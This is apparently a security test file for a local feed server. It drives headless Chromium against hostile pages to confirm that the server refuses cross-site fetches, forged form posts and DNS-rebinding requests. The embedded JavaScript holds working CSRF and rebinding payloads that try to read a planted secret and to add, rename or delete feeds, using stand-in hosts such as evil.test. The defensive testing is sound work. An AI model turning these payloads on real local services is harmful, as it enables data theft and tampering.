#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""A web page in Chromium cannot use a server without tokens on the same machine: cross-site
requests, forms, DNS rebinding."""
import contextlib
import http.client
import http.server
import json
import os
import re
import shutil
import signal
import socketserver
import subprocess
import threading

from http_server import HttpServer
from harness import Skip, case, equal, holds, run, wait_for

EVIL = "evil.test" # the page's host name, which resolves to this machine
SECRET = "an entry that no page may read"
LONG_S = 60 # a browser starts slowly on a busy machine

PAGE = """<!doctype html><meta charset=utf-8><title>page</title><script>
const results = {};
async function attempt(name, what) {
	try { results[name] = await what(); } catch (e) { results[name] = "error"; }
}
async function text(response) {
	response = await response;
	return response.type + " " + response.status + " " + (await response.text()).slice(0, 4000);
}
function stream(url) {
	return new Promise(done => {
		const s = new EventSource(url);
		s.onerror = () => { s.close(); done("error"); };
		s.addEventListener("entry", e => { s.close(); done(e.data); });
	});
}
async function report() {
	await fetch("/report", {method: "POST", body: JSON.stringify(results)});
}
%s
</script>"""

# Requests to servers of other origins (%s): all that need no preflight, and some that do.
ACROSS = """(async () => {
for (const to of %s) {
	const feed = n => JSON.stringify({url: "http://" + n + ".evil.example/"});
	const event = '{"property":"evil","section":1,"id":1}';
	const post = (mode, path, body, more) => () => text(fetch(to + path, {method: "POST", mode, body, ...more}));
	const json = {headers: {"Content-Type": "application/json"}};
	for (const mode of ["no-cors", "cors"]) {
		await attempt(to + mode + " feeds, text", post(mode, "/v1/feeds", feed("text")));
		await attempt(to + mode + " feeds, no type", post(mode, "/v1/feeds", new Blob([feed("blob")])));
		await attempt(to + mode + " feeds, a form's",
			post(mode, "/v1/feeds", new Blob([feed("form")], {type: "application/x-www-form-urlencoded"})));
		await attempt(to + mode + " events, text", post(mode, "/v1/events", event));
		await attempt(to + mode + " twirp, text", post(mode, "/twirp/stats.StatsService/Push", event));
		await attempt(to + mode + " entries, no type",
			post(mode, "/v1/feeds/1/entries", new Blob(['{"version":"https://jsonfeed.org/version/1.1",' +
			'"items":[{"id":"evil","content_text":"evil"}]}'])));
		await attempt(to + mode + " read", () => text(fetch(to + "/v1/entries", {mode})));
	}
	await attempt(to + " feeds, JSON", post("cors", "/v1/feeds", feed("json"), json));
	await attempt(to + " title", () =>
		text(fetch(to + "/v1/feeds/1", {method: "PATCH", body: '{"title":"evil"}', ...json})));
	await attempt(to + " remove", () => text(fetch(to + "/v1/feeds/1", {method: "DELETE"})));
	await attempt(to + " stream", () => stream(to + "/v1/stream?since=0"));
}
await report();
})();"""

FORM = """addEventListener("load", () => {
	const form = document.createElement("form"), input = document.createElement("input");
	Object.assign(form, {method: "post", enctype: "%s", action: "%s/v1/feeds"});
	Object.assign(input, {name: '{"url":"http://form.evil.example/","title":"', value: '"}'});
	form.append(input);
	document.body.append(form);
	form.submit();
});"""
ENCTYPES = ("text/plain", "multipart/form-data", "application/x-www-form-urlencoded")

# Requests to the page's own origin, whose name now resolves to the attacked server.
WITHIN = """(async () => {
const json = {headers: {"Content-Type": "application/json"}};
await attempt("entries", () => text(fetch("/v1/entries")));
await attempt("stream", () => stream("/v1/stream?since=0"));
await attempt("metrics", () => text(fetch("/metrics")));
await attempt("event", () =>
	text(fetch("/v1/events", {method: "POST", body: '{"property":"evil","section":1,"id":1}', ...json})));
await attempt("add", () =>
	text(fetch("/v1/feeds", {method: "POST", body: '{"url":"http://added.example/"}', ...json})));
await attempt("title", () => text(fetch("/v1/feeds/1", {method: "PATCH", body: '{"title":"evil"}', ...json})));
await attempt("remove", () => text(fetch("/v1/feeds/2", {method: "DELETE"})));
await report();
})();"""


class Site:
    """A site's pages, whose reports are kept. Other requests go unchanged to the port behind, as if
    the site's name had been resolved anew."""

    def __init__(self, pages, behind=None):
        site = self
        self.lock, self.reports = threading.Lock(), []

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *_):
                pass

            def answer(self, status, headers, body):
                self.send_response_only(status)
                for name, value in headers:
                    if name.lower() not in ("content-length", "transfer-encoding", "connection"):
                        self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def pass_on(self, body):
                c = http.client.HTTPConnection("127.0.0.1", behind, timeout=600)
                c.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
                for name, value in self.headers.items():
                    c.putheader(name, value)
                c.endheaders(body)
                r = c.getresponse()
                if r.headers["Content-Type"] == "text/event-stream": # endless
                    self.send_response_only(r.status)
                    self.send_header("Content-Type", r.headers["Content-Type"])
                    self.send_header("Connection", "close")
                    self.end_headers()
                    with contextlib.suppress(OSError):
                        while piece := r.read1():
                            self.wfile.write(piece)
                    self.close_connection = True
                else:
                    self.answer(r.status, r.getheaders(), r.read())
                c.close()

            def ask(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                if self.path in pages:
                    self.answer(200, [("Content-Type", "text/html")], (PAGE % pages[self.path]).encode())
                elif self.path == "/report":
                    with site.lock:
                        site.reports.append(json.loads(body))
                    self.answer(204, [], b"")
                elif behind and self.path != "/favicon.ico":
                    self.pass_on(body)
                else:
                    self.answer(404, [], b"")

            do_GET = do_POST = do_PATCH = do_DELETE = do_OPTIONS = ask

        class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
            daemon_threads = True
            block_on_close = False

        self.server = Server(("127.0.0.1", 0), Handler)
        self.url = "http://%s:%d" % (EVIL, self.server.server_address[1])
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def report(self):
        with self.lock:
            return self.reports[0] if self.reports else None

    def stop(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@contextlib.contextmanager
def browsing(base, url):
    """A browser that shows this page."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if not chromium:
        raise Skip("Chromium is not installed")
    with open(os.path.join(base, "chromium.log"), "ab") as log:
        p = subprocess.Popen(
            ["setpriv", "--pdeathsig", "SIGKILL", "--", chromium, "--headless", "--no-sandbox", "--disable-gpu",
             "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
             "--disable-popup-blocking", "--disable-dev-shm-usage", "--remote-debugging-port=0",
             "--user-data-dir=" + os.path.join(base, "profile"),
             "--host-resolver-rules=MAP %s 127.0.0.1" % EVIL, url],
            stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True,
            env={**os.environ, "HOME": base, "XDG_CONFIG_HOME": base, "XDG_CACHE_HOME": base})
    try:
        yield lambda: holds(p.poll() is None, "the browser runs: " + words(base))
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(p.pid, signal.SIGKILL)
        p.wait()


def words(base):
    with open(os.path.join(base, "chromium.log"), encoding="utf-8", errors="replace") as f:
        return f.read()[-2000:]


class Attacked(HttpServer):
    """A server on this machine without tokens, with two feeds, an entry and an access log."""

    def __init__(self, base, conf=""):
        self.log = os.path.join(base, "access.log")
        super().__init__(base, conf=conf + "access_log = %s\n" % self.log)
        accepted = "requests without a token are accepted"
        wait_for("the server to log that there are no tokens", lambda: accepted in self.feedwheel.log())
        self.feedwheel.run("add", "http://one.example/", "http://two.example/")
        self.feedwheel.run("push", "--content-type", "application/x-ndjson", "#1", "-",
                           stdin=json.dumps({"id": "a", "title": "a", "content_text": SECRET}))
        self.before = self.state()

    def state(self):
        return self.feedwheel.json("list"), self.feedwheel.run("entries", "--jsonl").stdout, self.stored()

    def answered(self):
        """(method and path, status) of all requests to the API so far."""
        with open(self.log, encoding="utf-8") as f:
            found = re.findall(r'"(\w+ /(?:v1|twirp|metrics)[^ "]*)[^"]*" (\d+) ', f.read())
        return [(what, int(status)) for what, status in found]

    def stop(self, code=0):
        super().stop(code) # accepted rows are stored and the log is written before the end


@contextlib.contextmanager
def attacked(base, conf=""):
    d = Attacked(base, conf)
    try:
        yield d
    finally:
        if d.process.poll() is None:
            d.stop()


def reported(base, site, path):
    with browsing(base, site.url + path) as lives:
        def there():
            lives()
            return site.report()
        wait_for("the page's report", there, LONG_S)
    return site.report()


def check_untouched(d, report):
    d.stop()
    holds(SECRET not in json.dumps(report), "the secret is not read: %s" % report)
    equal(d.state(), d.before, "the store's contents")


@case("another site's page cannot read or change anything by fetch(), even with serve_cors_origin = *")
def across(base):
    for i, conf in enumerate(("", "serve_cors_origin = *\n")):
        at = os.path.join(base, str(i))
        os.mkdir(at)
        with attacked(at, conf) as d:
            targets = ["http://127.0.0.1:%d" % d.port, "http://localhost:%d" % d.port]
            site = Site({"/page": ACROSS % json.dumps(targets)})
            report = reported(at, site, "/page")
            site.stop()
            check_untouched(d, report)
            requests = [a for a in d.answered() if not a[0].startswith("OPTIONS ")]
            equal([r for r in requests if r[1] not in (403, 415)], [], "requests not refused")
            sent = [
                "POST /v1/feeds", "POST /v1/events", "POST /twirp/", "POST /v1/feeds/1/entries", "GET /v1/entries",
                "GET /v1/stream"]
            if conf:
                sent += ["PATCH /v1/feeds/1", "DELETE /v1/feeds/1"]
            for what in sent:
                n = len([r for r in requests if r[0].startswith(what)])
                holds(n >= len(targets), "the browser sends %s: %s" % (what, requests))


@case("another site's form is refused with each enctype")
def forms(base):
    with attacked(base) as d:
        to = "http://127.0.0.1:%d" % d.port
        pages = {"/%d" % i: FORM % (enctype, to) for i, enctype in enumerate(ENCTYPES)}
        pages["/page"] = "".join("open('/%d');" % i for i in range(len(ENCTYPES)))
        site = Site(pages)
        with browsing(base, site.url + "/page") as lives:
            def there():
                lives()
                return len([a for a in d.answered() if a[0] == "POST /v1/feeds"]) == len(ENCTYPES)
            wait_for("all forms", there, LONG_S)
        site.stop()
        check_untouched(d, None)
        equal({status for what, status in d.answered() if what == "POST /v1/feeds"}, {403})


@case("a page with DNS rebinding cannot read or change anything; a name in serve_host_names may do both")
def rebinding(base):
    for i, conf in enumerate(("", "serve_host_names = feeds.lan, %s\n" % EVIL)):
        at = os.path.join(base, str(i))
        os.mkdir(at)
        with attacked(at, conf) as d:
            site = Site({"/page": WITHIN}, behind=d.port)
            report = reported(at, site, "/page")
            site.stop()
            equal(len(report), 7, "reported requests")
            if not conf:
                check_untouched(d, report)
                equal({status for _, status in d.answered()}, {403}, "statuses")
                holds("serve_host_names" in report["entries"] and EVIL in report["entries"], report)
                continue
            # shows that the page's requests are right
            holds(SECRET in report["entries"] and '"id":"a"' in report["stream"], report)
            names = "metrics", "event", "add", "title", "remove"
            equal([report[name].split()[1] for name in names], ["200", "202", "201", "200", "204"])


run()
